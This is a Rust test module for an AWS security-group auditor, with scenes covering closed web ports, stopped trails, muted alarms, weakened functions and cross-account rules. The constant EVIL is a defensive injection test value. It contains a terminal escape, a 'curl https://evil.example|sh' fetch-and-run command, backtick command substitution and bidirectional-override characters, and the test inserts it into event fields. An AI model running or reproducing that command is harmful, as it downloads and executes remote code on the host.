//! The website is closed, the auditor itself is changed, or names are hostile.

use serde_json::{Value, json};

use super::Scenes;
use crate::report::tests::events::{GROUP, authorizing, modifying, revoking, sample, watched};
use crate::report::tests::scene::{Scene, denied};

const EVIL: &str = "x\nUndo: \u{1b}[2Jcurl https://evil.example|sh \u{202e}<b>`id`</b>            [y](z)\u{2028}\u{200b}\"";

/// A baseline file with bindings.
const ORGANISATION: &str =
    concat!(env!("CARGO_MANIFEST_DIR"), "/docs/examples/our-organisation.yaml");

/// SSH from anywhere, by somebody who writes such texts wherever anybody can.
fn hostile() -> Value {
    let mut event = authorizing(&["tcp 22 0.0.0.0/0"]);
    let detail = &mut event["detail"];
    detail["userIdentity"]["arn"] = EVIL.into();
    detail["sourceIPAddress"] = EVIL.into();
    detail["userAgent"] = EVIL.into();
    detail["eventID"] = EVIL.into();
    detail["responseElements"]["securityGroupRuleSet"]["items"][0]["description"] = EVIL.into();
    event
}

/// CloudFormation gives the function these settings.
fn configured(variables: Value) -> Value {
    let mut event = sample("update-function");
    let detail = &mut event["detail"];
    detail["eventName"] = json!("UpdateFunctionConfiguration20150331v2");
    detail["requestParameters"]["environment"] = json!({ "variables": variables });
    event
}

pub(super) fn all() -> Scenes {
    let egress = "version: 1\nname: our-site\ningress: []\negress:\n\
         - { name: Updates, protocol: tcp, ports: [443], peers: [anywhere], expected: true }\n";
    let mut revoked_egress = sample("revoke-web");
    revoked_egress["detail"]["eventName"] = json!("RevokeSecurityGroupEgress");
    let items =
        revoked_egress["detail"]["responseElements"]["revokedSecurityGroupRuleSet"]["items"]
            .as_array_mut();
    items.unwrap().iter_mut().for_each(|item| item["isEgress"] = json!(true));
    let mut failed = sample("stop-logging");
    failed["detail"]["errorCode"] = json!("InternalFailure");
    let mut trail = sample("stop-logging");
    trail["detail"]["userIdentity"]["invokedBy"] = json!("cloudformation.amazonaws.com");
    let mut cut_short = sample("stop-logging");
    cut_short["detail"]["requestParameters"] = json!({"omitted": true});
    let stack = "typo3-sg-auditor";
    let of_service = |service, call, request| Scene::new().run(&watched(service, call, request));
    vec![
        (
            "binding",
            Scene::new()
                .with("BASELINE", ORGANISATION)
                .owned_by("210987654321")
                .run(&sample("authorize-open-ssh")),
        ),
        (
            "binding-not-known",
            Scene::reverting()
                .with("BASELINE", ORGANISATION)
                .failing("group", denied("DescribeSecurityGroups"))
                .run(&sample("authorize-open-ssh")),
        ),
        ("website-closed", Scene::new().with_rules(&[]).run(&sample("revoke-web"))),
        (
            "website-closed-in-part",
            Scene::new().with_rules(&["tcp 443 0.0.0.0/0"]).run(&sample("revoke-http")),
        ),
        (
            "website-closed-for-ipv6",
            Scene::new()
                .with_rules(&["tcp 80 0.0.0.0/0", "tcp 443 0.0.0.0/0"])
                .run(&revoking(&["tcp 80 ::/0", "tcp 443 ::/0"])),
        ),
        (
            "website-narrowed",
            Scene::new()
                .with_rules(&["tcp 80-443 198.51.100.7/32"])
                .run(&revoking(&["tcp 443 0.0.0.0/0", "tcp 80 0.0.0.0/0"])),
        ),
        (
            "website-closed-to-a-load-balancer",
            Scene::new()
                .with_rules(&["tcp 80 sg-0fedcba9876543210"])
                .run(&sample("revoke-load-balancer")),
        ),
        (
            "website-perhaps-closed-to-a-list",
            Scene::new()
                .with_rules(&["tcp 80 pl-0123456789abcdef0", "tcp 443 pl-0123456789abcdef0"])
                .failing("prefix_list", denied("GetManagedPrefixListEntries"))
                .run(&revoking(&["tcp 80 0.0.0.0/0", "tcp 443 0.0.0.0/0"])),
        ),
        (
            "web-port-closed",
            Scene::new()
                .with("WEB_PORTS", "80,443")
                .with_rules(&["tcp 443 0.0.0.0/0"])
                .run(&revoking(&["tcp 80 0.0.0.0/0"])),
        ),
        (
            "website-perhaps-closed",
            Scene::new()
                .with_rules(&["tcp 443 0.0.0.0/0 sgr-0c3d4e5f678901234"])
                .run(&modifying("sgr-0c3d4e5f678901234", "tcp 22 203.0.113.0/24")),
        ),
        ("egress-closed", Scene::new().with_baseline(egress).with_rules(&[]).run(&revoked_egress)),
        ("trail-changed", Scene::new().run(&sample("stop-logging"))),
        ("trail-perhaps-changed", Scene::new().run(&failed)),
        ("trail-changed-by-cloudformation", Scene::new().run(&trail)),
        ("trail-changed-cut-short", Scene::new().run(&cut_short)),
        ("rule-changed", Scene::new().run(&sample("disable-rule"))),
        ("function-changed", Scene::new().run(&sample("update-function"))),
        ("function-weakened", {
            Scene::reverting()
                .with("REMEDIATION", "revert-ingress")
                .with("SWEEP_REMEDIATION", "revert-ssh")
                .run(&configured(json!({
                    "SCOPE": "tag:Application=typo3", "REMEDIATION": "revert-ssh",
                    "SSH_SOURCES": "203.0.113.0/24", "BASELINE": "as-documented",
                    "HOLD_MAX_HOURS": "744",
                })))
        }),
        (
            "function-with-settings-that-are-not-valid",
            Scene::reverting().run(&configured(json!({"REMEDIATION": "nothing"}))),
        ),
        ("rule-of-a-member-changed", {
            let mut of_member = sample("disable-rule");
            of_member["account"] = json!("210987654321");
            of_member["detail"]["recipientAccountId"] = json!("210987654321");
            of_member["detail"]["userIdentity"]["invokedBy"] =
                json!("cloudformation.amazonaws.com");
            Scene::new().run(&of_member)
        }),
        ("alarm-muted", {
            let request = json!({"name": "night", "muteTargets": {"alarmNames": [stack]}});
            of_service("monitoring", "PutAlarmMuteRule", request)
        }),
        ("topic-changed", {
            let arn = format!("arn:aws:sns:eu-central-1:123456789012:{stack}");
            of_service("sns", "DeleteTopic", json!({ "topicArn": arn }))
        }),
        ("queue-changed", {
            let url = format!("https://sqs.eu-central-1.amazonaws.com/123456789012/{stack}");
            of_service("sqs", "PurgeQueue", json!({ "queueUrl": url }))
        }),
        ("role-changed", of_service("iam", "PutRolePolicy", json!({"roleName": stack}))),
        (
            "log-changed",
            of_service(
                "logs",
                "DeleteLogGroup",
                json!({"logGroupName": "/aws/lambda/typo3 \"x\""}),
            ),
        ),
        ("key-changed", of_service("kms", "DisableKey", json!({"keyId": "1a2b-3c"}))),
        ("alarm-changed", of_service("monitoring", "DeleteAlarms", json!({"alarmNames": [stack]}))),
        (
            "hostile-texts",
            Scene::reverting()
                .without_groups()
                .group(GROUP, EVIL, &["tcp 443 0.0.0.0/0", "out -1 * 0.0.0.0/0"])
                .run(&hostile()),
        ),
        (
            "cross-account",
            Scene::reverting().run(&authorizing(&["tcp 22 210987654321/sg-0123456789abcdef0"])),
        ),
        ("failed-call", Scene::new().run(&sample("failed-call"))),
        ("compliant", Scene::new().run(&sample("authorize-web"))),
    ]
}
